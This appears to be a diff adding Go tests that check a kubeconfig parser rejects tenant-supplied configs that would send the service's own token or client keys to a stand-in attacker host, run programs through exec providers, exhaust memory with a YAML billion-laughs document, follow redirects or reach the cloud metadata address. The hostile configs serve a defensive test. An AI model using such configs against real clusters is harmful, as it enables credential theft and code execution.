@@ -1,0 +1,127 @@
+package kube
+
+import (
+	"errors"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"k8s.io/client-go/rest"
+
+	"github.com/vitistack/stack/events/outbound"
+)
+
+// kubeconfig is one of a user with these credentials.
+func kubeconfig(server, cluster, user string) string {
+	return "apiVersion: v1\nkind: Config\ncurrent-context: x\n" +
+		"clusters: [{name: c, cluster: {server: '" + server + "'" + cluster + "}}]\n" +
+		"contexts: [{name: x, context: {cluster: c, user: u}}]\n" +
+		"users: [{name: u, user: {" + user + "}}]\n"
+}
+
+// TestMaliciousKubeconfig has tenants write what the function would run or read for
+// them: its own token would go to a server of theirs.
+func TestMaliciousKubeconfig(t *testing.T) {
+	t.Parallel()
+	dir := t.TempDir()
+	token, ran := filepath.Join(dir, "token"), filepath.Join(dir, "ran")
+	if err := os.WriteFile(token, []byte("the function's own"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	cases := map[string]struct {
+		reason, kubeconfig string
+		want               error
+	}{
+		"Good":    {reason: "all that is needed is in it", kubeconfig: kubeconfig("https://10.0.0.5:6443", "", "token: t")},
+		"Token":   {reason: "the function's token", kubeconfig: kubeconfig("https://evil.example", "", "tokenFile: "+token), want: ErrReachesHere},
+		"Both":    {reason: "a token does not hide the file", kubeconfig: kubeconfig("https://evil.example", "", "token: t, tokenFile: "+token), want: ErrReachesHere},
+		"Endless": {reason: "a file without an end", kubeconfig: kubeconfig("https://evil.example", "", "tokenFile: /dev/zero"), want: ErrReachesHere},
+		"Program": {reason: "a program", kubeconfig: kubeconfig("https://evil.example", "", "exec: {apiVersion: client.authentication.k8s.io/v1, command: touch, args: ["+ran+"], interactiveMode: Never}"), want: ErrReachesHere},
+		"Plugin":  {reason: "a plug-in", kubeconfig: kubeconfig("https://evil.example", "", "auth-provider: {name: oidc}"), want: ErrReachesHere},
+		"Key":     {reason: "a key of the function", kubeconfig: kubeconfig("https://evil.example", "", "client-certificate: /etc/tls.crt, client-key: /etc/tls.key"), want: ErrReachesHere},
+		"CA":      {reason: "a file again", kubeconfig: kubeconfig("https://evil.example", ", certificate-authority: "+token, "token: t"), want: ErrReachesHere},
+		"Another": {reason: "a user that is not the current one", kubeconfig: strings.Replace(kubeconfig("https://a", "", "token: t"), "users: [", "users: [{name: v, user: {tokenFile: /x}}, ", 1), want: ErrReachesHere},
+		"Null":    {reason: "a user that is nothing", kubeconfig: "users: [{name: u, user: null}]\nclusters: [null]", want: ErrNotKubeconfig},
+		"NoYAML":  {reason: "no document", kubeconfig: "{", want: ErrNotKubeconfig},
+		"Empty":   {reason: "no context", kubeconfig: "", want: ErrNotKubeconfig},
+		"Bomb":    {reason: "a billion laughs", kubeconfig: bomb(), want: ErrNotKubeconfig},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			config, err := ReadKubeconfig([]byte(tc.kubeconfig))
+			if !errors.Is(err, tc.want) || (err == nil) != (config != nil) {
+				t.Errorf("%s: got %v, want %v", tc.reason, err, tc.want)
+			}
+		})
+	}
+	if _, err := os.Stat(ran); err == nil {
+		t.Error("a program has been run")
+	}
+}
+
+// bomb is a YAML document of some hundred bytes that would become ten thousand
+// million.
+func bomb() string {
+	doc := "a: &a [x,x,x,x,x,x,x,x,x,x]\n"
+	for c := 'b'; c <= 'j'; c++ {
+		doc += string(c) + ": &" + string(c) + " [" + strings.Repeat("*"+string(c-1)+",", 10) + "]\n"
+	}
+	return doc
+}
+
+// TestElsewhere has an API server that somebody else has named lead on to another:
+// nothing is sent there, the token least of all.
+func TestElsewhere(t *testing.T) {
+	t.Parallel()
+	followed := false
+	second := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { followed = true }))
+	t.Cleanup(second.Close)
+	first := httptest.NewServer(http.RedirectHandler(second.URL, http.StatusTemporaryRedirect))
+	t.Cleanup(first.Close)
+	client, err := HTTPClientFor(&rest.Config{Host: first.URL, BearerToken: "t"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	get := func(url string) (*http.Response, error) {
+		req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, url, nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		return client.Do(req)
+	}
+	res, err := get(first.URL)
+	if err != nil || res.StatusCode != http.StatusTemporaryRedirect || followed {
+		t.Errorf("redirected: followed %t, %v", followed, err)
+	}
+	if err == nil {
+		_ = res.Body.Close()
+	}
+	var denied *outbound.Denied
+	res, err = get("http://169.254.169.254/api/v1/nodes")
+	if err == nil {
+		_ = res.Body.Close()
+	}
+	if !errors.As(err, &denied) {
+		t.Errorf("the metadata of the cloud: %v", err)
+	}
+}
+
+func FuzzReadKubeconfig(f *testing.F) {
+	f.Add([]byte(kubeconfig("https://10.0.0.5:6443", "", "token: t")))
+	f.Add([]byte(kubeconfig("https://a", ", certificate-authority-data: AA==", "client-certificate-data: AA==, client-key-data: AA==")))
+	f.Add([]byte(`{"current-context":"x","users":[{"name":"u","user":{"exec":{"command":"id"}}}]}`))
+	f.Add([]byte(bomb()))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		config, err := ReadKubeconfig(data)
+		if err != nil {
+			return
+		}
+		if c := config.TLSClientConfig; config.ExecProvider != nil || config.AuthProvider != nil || config.BearerTokenFile != "" || c.CAFile+c.CertFile+c.KeyFile != "" {
+			t.Errorf("%q reaches for programs or files", data)
+		}
+	})
+}
